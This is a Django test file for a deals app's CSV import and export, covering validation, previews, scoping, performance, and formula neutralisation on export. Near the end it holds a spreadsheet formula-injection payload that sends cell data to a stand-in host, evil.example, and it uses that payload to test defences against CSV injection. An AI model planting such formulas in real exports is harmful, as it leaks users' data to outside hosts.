"""CSV import (own operator: validate all, preview, write all or nothing) and export."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django_countries import countries

from alliance.models import Contribution, Opco
from deals.models import Deal, StageChange
from deals.transfer import IMPORT_COLUMNS, Importer, ImportReport
from tests.factories import DealFactory, OpcoFactory, PartnerFactory

HEADER = ",".join(IMPORT_COLUMNS)


def csv_file(*rows: str, name: str = "deals.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, "\n".join([HEADER, *rows]).encode(), "text/csv")


def row(partner="spotify", country="FR", stage="exploring", **extra) -> str:
    values = {
        "partner": partner,
        "country": country,
        "stage": stage,
        "deal_type": "bundling",
        "visibility": "alliance",
        "exclusive": "false",
        "started_on": "2026-01-10",
        **extra,
    }
    return ",".join(values.get(column, "") for column in IMPORT_COLUMNS)


def upload(client, file):
    return client.post(reverse("deals:import"), {"file": file})


def test_a_file_with_bad_rows_writes_nothing_and_reports_each_row_and_reason(
    client_for, member, partner, opco
):
    client = client_for(member)
    response = upload(client, csv_file(row(), row(country="XX"), row(partner="cyan", country="DE")))
    page = response.content.decode()
    assert response.status_code == 400
    assert "nothing was written" in page
    assert "“XX” is not an ISO country code." in page
    assert response.context["report"].errors == [
        (3, "“XX” is not an ISO country code."),
        (4, "No partner with the slug “cyan”."),
    ]
    assert not Deal.objects.exists()
    # And confirming without a valid preview writes nothing either.
    client.post(reverse("deals:import"), {"confirm": "1"})
    assert not Deal.objects.exists()


def test_a_valid_file_is_previewed_then_written_in_full(
    client_for, member, operator, partner, opco
):
    OpcoFactory(operator=operator, country="DE")
    OpcoFactory(operator=operator, country="PL")
    existing = DealFactory(operator=operator, partner=partner, country="PL", stage="exploring")
    PartnerFactory(slug="magisto", name="Magisto")
    client = client_for(member)
    preview = upload(
        client,
        csv_file(
            row(),
            row(partner="magisto", country="DE", stage="signed", signed_on="2026-02-01"),
            row(country="PL", stage="negotiating"),
        ),
    )
    report = preview.context["report"]
    assert preview.status_code == 200 and report.is_valid
    assert (report.created, report.updated) == (2, 1)
    assert [c.fields for c in report.changes if c.action == "update"] == [
        ["stage", "deal_type", "started_on", "summary", "confidential_notes"]
    ]
    assert Deal.objects.count() == 1  # the preview writes nothing
    done = client.post(reverse("deals:import"), {"confirm": "1"}, follow=True)
    assert "2 deals created, 1 changed" in done.content.decode()
    assert Deal.objects.count() == 3
    existing.refresh_from_db()
    assert existing.stage == "negotiating"
    assert StageChange.objects.filter(deal=existing, to_stage="negotiating").exists()
    assert Contribution.objects.filter(kind="deal_logged").count() == 2
    assert Contribution.objects.filter(kind="deal_advanced").count() == 1


def test_a_row_breaking_a_deal_rule_is_reported_with_the_models_message(
    client_for, member, operator, partner, opco
):
    OpcoFactory(operator=operator, country="DE")
    response = upload(
        client_for(member),
        csv_file(row(stage="signed", signed_on="2025-01-01"), row(country="DE", stage="declined")),
    )
    errors = dict(response.context["report"].errors)
    assert errors[2] == "The deal cannot be signed before it was started."
    assert errors[3] == "Say why the deal was declined."


def test_a_file_without_the_required_columns_is_refused(client_for, member):
    file = SimpleUploadedFile("deals.csv", b"name,place\nSpotify,FR\n", "text/csv")
    response = upload(client_for(member), file)
    assert response.status_code == 400
    assert "The header lacks the column(s)" in response.content.decode()


def test_other_operators_deals_cannot_be_changed_by_an_import(
    client_for, other_member, operator, other_operator, partner
):
    OpcoFactory(operator=other_operator, country="FR")
    theirs = DealFactory(operator=operator, partner=partner, country="FR")
    upload(client_for(other_member), csv_file(row(stage="negotiating")))
    client_for(other_member).post(reverse("deals:import"), {"confirm": "1"})
    theirs.refresh_from_db()
    assert theirs.stage == "exploring"  # the import created Millicom's own deal instead
    assert Deal.objects.filter(operator__slug="millicom").count() == 1


def test_a_50000_row_file_is_imported_in_bounded_memory_and_time(member, operator):
    """The file is read as a stream in batches: memory stays far below what 50,000 deals held at
    once would take, and the whole import (validation, then writing) runs in bounded time."""
    partners = [PartnerFactory(slug=f"p{i}", name=f"P {i}") for i in range(250)]
    codes = [code for code, _ in countries][:200]
    Opco.objects.bulk_create(Opco(operator=operator, country=c, brand_name=c) for c in codes)
    lines = [HEADER]
    for index in range(50_000):
        partner, code = partners[index % 250].slug, codes[index // 250]
        lines.append(row(partner=partner, country=code))
    data = "\n".join(lines).encode()
    importer = Importer(user=member)
    started = time.monotonic()
    tracemalloc.start()
    report = importer.validate(io.BytesIO(data))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert report.is_valid and report.created == 50_000
    applied = importer.apply(io.BytesIO(data))
    elapsed = time.monotonic() - started
    assert applied.created == 50_000
    assert Deal.objects.filter(operator=operator).count() == 50_000
    assert Contribution.objects.filter(kind="deal_logged").count() == 50_000
    assert peak < 50 * 1024 * 1024
    print(f"50,000 rows imported in {elapsed:.0f} s; validation peak {peak // 1024} KiB")
    # Measured at 209 s on two cores shared with three other test runs; row-by-row ledger
    # writes took ten minutes there, so this bound still catches that kind of regression.
    assert elapsed < 300


def test_export_follows_the_lists_filters(client_for, member, operator, partner):
    DealFactory(operator=operator, partner=partner, country="FR")
    DealFactory(operator=operator, partner=partner, country="PL")
    response = client_for(member).get(reverse("deals:export"), {"country": "PL"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["country"] for r in rows] == ["PL"]
    assert response["Content-Disposition"].startswith("attachment;")


def test_choices_read_as_the_pages_labels_or_as_codes_in_any_case(
    client_for, member, operator, partner, opco
):
    OpcoFactory(operator=operator, country="DE")
    OpcoFactory(operator=operator, country="PL")
    client = client_for(member)
    preview = upload(
        client,
        csv_file(
            row(
                stage="NEGOTIATING",
                deal_type="White-label",
                visibility="Alliance — every member sees the deal (not the confidential notes)",
            ),
            row(
                country="DE",
                stage="Declined",
                deal_type="revenue share",
                visibility="private",
                decline_reason="Competing deal in place",
                decline_explanation="A rival signed first.",
            ),
            row(country="PL", deal_type="Carrier_Billing", visibility="SUMMARY"),
        ),
    )
    assert preview.context["report"].errors == []
    client.post(reverse("deals:import"), {"confirm": "1"})
    saved = {
        deal.country.code: (deal.stage, deal.deal_type, deal.visibility, deal.decline_reason)
        for deal in Deal.objects.all()
    }
    assert saved == {
        "FR": ("negotiating", "white_label", "alliance", ""),
        "DE": ("declined", "revenue_share", "private", "competing_deal"),
        "PL": ("exploring", "carrier_billing", "summary", ""),
    }


def test_every_error_of_every_row_is_reported(client_for, member, partner, opco):
    response = upload(
        client_for(member),
        csv_file(
            row(stage="launched!", deal_type="", started_on="soon"),
            row(country="XX", visibility="public", exclusive="maybe"),
        ),
    )
    report = response.context["report"]
    assert report.errors == [
        (
            2,
            "stage “launched!” is not one of: Exploring, Negotiating, Signed, Launched, Ended, "
            "Declined.",
        ),
        (
            2,
            "deal_type is required: one of Distribution, Bundling, Carrier billing, "
            "Zero-rating, White-label, Revenue share, Co-marketing, IoT connectivity, Other.",
        ),
        (2, "started_on “soon” is not a date (YYYY-MM-DD)."),
        (3, "“XX” is not an ISO country code."),
        (3, "visibility “public” is not one of: Alliance, Bloc, Summary, Private."),
        (3, "exclusive “maybe” should be true or false."),
    ]
    assert (report.rows_with_errors, report.error_count) == (2, 6)
    assert "2 rows with errors" in response.content.decode().replace("</strong><span>", " ")


def test_a_rule_error_and_a_shape_error_of_one_row_are_both_reported(
    client_for, member, partner, opco
):
    response = upload(client_for(member), csv_file(row(country="DE", started_on="soon")))
    assert response.context["report"].errors == [
        (2, "started_on “soon” is not a date (YYYY-MM-DD)."),
        (2, "Orange has no opco in Germany."),
    ]


def test_the_import_page_offers_a_sample_file_built_from_the_columns(
    client_for, member, partner, opco
):
    client = client_for(member)
    page = client.get(reverse("deals:import")).content.decode()
    assert reverse("deals:import_sample") in page
    assert "formulas" in page and "Revenue share" in page
    response = client.get(reverse("deals:import_sample"))
    assert response["Content-Disposition"].startswith("attachment;")
    sample = b"".join(response.streaming_content)
    header, example = list(csv.reader(io.StringIO(sample.decode())))
    assert header == IMPORT_COLUMNS
    assert dict(zip(header, example, strict=True))["deal_type"] == "Revenue share"
    report = Importer(user=member).validate(io.BytesIO(sample))
    assert report.is_valid and report.created == 1


def test_the_result_is_worded_in_the_singular_and_the_plural(client_for, member, partner, opco):
    client = client_for(member)
    upload(client, csv_file(row()))
    done = client.post(reverse("deals:import"), {"confirm": "1"}, follow=True)
    assert "Imported 1 row: 1 deal created, 0 changed, 0 unchanged." in done.content.decode()
    assert ImportReport(rows=2, created=2).summary() == (
        "Imported 2 rows: 2 deals created, 0 changed, 0 unchanged."
    )


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    client_for, member, other_operator, make_partner
):
    """Issue 10, point 4: Orange imported a summary that is a formula; BT's export carried it."""
    DealFactory(
        operator=other_operator,
        partner=make_partner(name="@Risk", slug="risk"),
        summary=FORMULA,
        country="CO",
    )
    response = client_for(member).get(reverse("deals:export"))
    body = b"".join(response.streaming_content).decode()
    [exported] = list(csv.DictReader(io.StringIO(body)))
    assert exported["summary"] == "'" + FORMULA
    assert exported["partner_name"] == "'@Risk"
    assert exported["id"].isdigit()  # numbers we write ourselves are left as they are


def test_an_exported_formula_cell_imports_back_as_its_text(client_for, member, partner, opco):
    client = client_for(member)
    upload(client, csv_file(row(summary="'" + FORMULA.replace(",", ";"))))
    client.post(reverse("deals:import"), {"confirm": "1"})
    assert Deal.objects.get().summary == FORMULA.replace(",", ";")
